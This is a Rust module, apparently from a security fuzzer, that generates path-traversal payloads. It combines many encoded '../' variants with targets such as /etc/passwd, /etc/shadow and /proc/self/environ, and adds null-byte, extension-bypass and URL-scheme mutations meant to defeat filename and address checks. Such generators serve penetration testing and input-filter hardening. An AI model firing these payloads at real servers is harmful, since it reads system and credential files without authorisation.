//! Paths and addresses: how a step up is written, how deep, to which file, and what a checker of
//! endings is given.

/// Steps up, as they are written.
const STEPS: &[&str] = &[
    "../",
    "..\\",
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    "..%5c",
    "..%252f",
    "%252e%252e%252f",
    "..%c0%af",
    "..%u2215",
    "....//",
    "..././",
    "..//",
    "./../",
    "..;/",
    "%2e%2e%5c",
    "..\\/",
    ".%2e/",
    "%2e./",
    "..%e0%80%af",
    "%c0%ae%c0%ae/",
    "..%25c0%25af",
    "..%00/",
    "..0x2f",
    "%uff0e%uff0e/",
    "..%ef%bc%8f",
];

const TARGETS: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "windows/win.ini",
    "boot.ini",
    "proc/self/environ",
    "windows/system32/drivers/etc/hosts",
    "etc/issue",
    "var/log/apache2/access.log",
];

/// Every step, to every target, at several depths.
pub fn grid() -> Vec<String> {
    let mut out = Vec::new();
    for step in STEPS {
        for target in TARGETS {
            for depth in [1, 2, 3, 5, 8, 12] {
                let separator = step.trim_start_matches("%2e%2e").trim_start_matches("..");
                // The target's own slashes are written as the step's, where that is a separator.
                let plain = matches!(separator, "/" | "\\" | "%2f" | "%5c" | "%252f" | "%c0%af");
                let target = if plain { target.replace('/', separator) } else { (*target).to_owned() };
                out.push(format!("{}{target}", step.repeat(depth)));
            }
        }
    }
    out
}

/// A folder before, an ending after.
pub fn vary(seed: &str) -> Vec<String> {
    let mut out = Vec::new();
    for after in ["%00", "%00.png", "\0.html", "?", "#", "/.", "%20", ".", "%2500.jpg"] {
        out.push(format!("{seed}{after}"));
    }
    if seed.starts_with("..") || seed.starts_with("%2e") {
        for before in ["/", "images/", "/var/www/html/", "C:\\inetpub\\", "./", "file=", "x/", "public\\"] {
            out.push(format!("{before}{seed}"));
        }
    }
    if !seed.contains('%') {
        out.push(super::alternating(seed));
    }
    out
}

/// Schemes have no case, and a checker of endings is content with what follows a NUL or a fragment.
pub fn scheme(seed: &str) -> Vec<String> {
    let mut out: Vec<String> =
        ["%00", "#x.png", "?x=.html"].iter().map(|after| format!("{seed}{after}")).collect();
    if let Some((scheme, rest)) = seed.split_once(':') {
        out.push(format!("{}:{rest}", scheme.to_uppercase()));
        out.push(format!("{}:{rest}", super::alternating(scheme)));
        out.push(format!(" {seed}"));
    }
    out
}

pub fn address(seed: &str) -> Vec<String> {
    let mut out = scheme(seed);
    if let Some(rest) = seed.strip_prefix("http://") {
        out.extend(["https://", "//", "http:///", "http:\\\\"].map(|start| format!("{start}{rest}")));
        out.push(format!("http://x@{rest}"));
    }
    out
}
